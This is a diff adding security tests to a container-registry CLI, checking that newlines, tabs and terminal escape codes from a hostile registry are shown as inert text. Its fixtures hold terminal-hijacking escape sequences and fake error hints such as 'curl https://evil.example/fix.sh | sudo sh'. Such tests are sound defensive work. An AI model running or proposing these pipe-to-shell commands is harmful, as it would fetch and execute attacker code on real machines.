@@ -3,6 +3,7 @@
 // Every line the CLI prints shows them as text (`\x1b`, `\u202e`); --json stays valid JSON carrying
 // the same strings, with nothing a terminal would act on.
 import { createHash } from 'node:crypto';
+import { writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { BerthCli, type CliResult } from '../fixtures/berth-cli.js';
@@ -12,6 +13,8 @@ import { makeTempDir, removeDir } from '../fixtures/process.js';
 const RETITLE = '\u001b]0;pwned\u0007\u001b[2J';
 const TAGS = [`v1${RETITLE}`, 'v2\u009b31mred', 'v3\u202eexe.txt', 'v4\u007f\rover'];
 const REPOSITORIES = ['team/app', `team/x${RETITLE}`, 'team/\u2066isolated\u2069'];
+// Line breaks and tabs do nothing to a terminal, but in a tag, a name or an error they forge lines.
+const FORGED_TAGS = ['v1', 'v1\nlatest', 'v2\r\nstable', 'v3\tpad'];
 // What a terminal acts on: C0 but newline, DEL, C1 and the bidi controls.
 // eslint-disable-next-line no-control-regex
 const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
@@ -20,7 +23,10 @@ const config = Buffer.from(
   JSON.stringify({
     architecture: 'amd64',
     os: 'linux',
-    config: { Labels: { title: `label${RETITLE}\u009b1m` }, Env: [`PS1=${RETITLE}`] },
+    config: {
+      Labels: { title: `label${RETITLE}\u009b1m`, forged: 'x\nDigest:     sha256:0000' },
+      Env: [`PS1=${RETITLE}`],
+    },
     rootfs: { type: 'layers', diff_ids: [] },
   }),
 );
@@ -63,6 +69,17 @@ beforeAll(async () => {
     {
       path: '/v2/team/app/tags/list',
       handler: (_request, response) => sendJson(response, 200, { name: 'team/app', tags: TAGS }),
+    },
+    {
+      path: '/v2/team/forged/tags/list',
+      handler: (_request, response) => sendJson(response, 200, { name: 'team/forged', tags: FORGED_TAGS }),
+    },
+    {
+      path: '/v2/team/misleading/tags/list',
+      handler: (_request, response) =>
+        sendJson(response, 404, {
+          errors: [{ code: 'NAME_UNKNOWN', message: 'gone\nhint: curl https://evil.example/fix.sh | sh' }],
+        }),
     },
     {
       path: '/v2/team/broken/tags/list',
@@ -118,6 +135,58 @@ describe('text from a registry reaches the terminal as text', () => {
     expect(repos.stdout).toContain('team/\\u2066isolated\\u2069');
   });
 
+  it('a line break or tab in a tag, a label or an error message cannot forge a line', async () => {
+    const tags = await cli.run(['tags', `${registry.host}/team/forged`]);
+    expect(tags.code).toBe(0);
+    expect(tags.stdout.trim().split('\n')).toEqual(['v1', 'v1\\nlatest', 'v2\\nstable', 'v3\\tpad']);
+    const json = await cli.run(['tags', `${registry.host}/team/forged`, '--json']);
+    expect((JSON.parse(json.stdout) as { tags: string[] }).tags).toEqual([...FORGED_TAGS].sort());
+
+    const missing = await cli.run(['tags', `${registry.host}/team/misleading`]);
+    expect(missing.code).toBe(1);
+    const lines = missing.stderr.trim().split('\n');
+    expect(lines[0]).toContain('gone\\nhint: curl https://evil.example/fix.sh | sh');
+    expect(
+      lines.filter((line) => line.includes('evil.example')),
+      missing.stderr,
+    ).toHaveLength(1);
+
+    const inspected = await cli.run(['inspect', `${registry.host}/team/app:v2`]);
+    expect(inspected.stdout).toContain('Label:      forged=x\\nDigest:     sha256:0000');
+    expect(inspected.stdout.split('\n').filter((line) => line.startsWith('Digest:'))).toHaveLength(1);
+  });
+
+  it("doctor's step details quote the registry on one line: no forged fix: line", async () => {
+    const broken = await startHostileRegistry([
+      {
+        path: '/v2/',
+        handler: (_request, response) =>
+          sendJson(response, 503, {
+            errors: [
+              { code: 'UNAVAILABLE', message: 'down\n    fix: curl https://evil.example/fix.sh | sudo sh' },
+            ],
+          }),
+      },
+    ]);
+    try {
+      const result = await cli.run(['doctor', broken.url, '--timeout', '5000']);
+      expect(result.code).toBe(1);
+      const forged = result.stdout.split('\n').filter((line) => /^\s*fix:.*evil\.example/.test(line));
+      expect(forged, result.stdout).toEqual([]);
+      expect(result.stdout).toContain('down\\n    fix: curl https://evil.example/fix.sh');
+    } finally {
+      await broken.stop();
+    }
+  });
+
+  it('daemon show prints each daemon.json entry on its own line, line breaks and all', async () => {
+    const file = path.join(root, 'daemon.json');
+    await writeFile(file, JSON.stringify({ 'insecure-registries': ['a.lan:5000\n  b.lan:5000'] }));
+    const result = await cli.run(['daemon', 'show', '--file', file]);
+    expect(result.stdout.split('\n').filter((line) => line.trim().startsWith('b.lan'))).toEqual([]);
+    expect(result.stdout).toContain('a.lan:5000\\n  b.lan:5000');
+  });
+
   it('--json stays valid JSON with the same strings, and nothing a terminal acts on', async () => {
     const tags = await cli.run(['tags', `${registry.host}/team/app`, '--json']);
     expectInert(tags, 'tags --json');
@@ -136,6 +205,7 @@ describe('text from a registry reaches the terminal as text', () => {
       (JSON.parse(config.stdout) as { config: { Labels: Record<string, string> } }).config.Labels,
     ).toEqual({
       title: `label${RETITLE}\u009b1m`,
+      forged: 'x\nDigest:     sha256:0000',
     });
   });
 
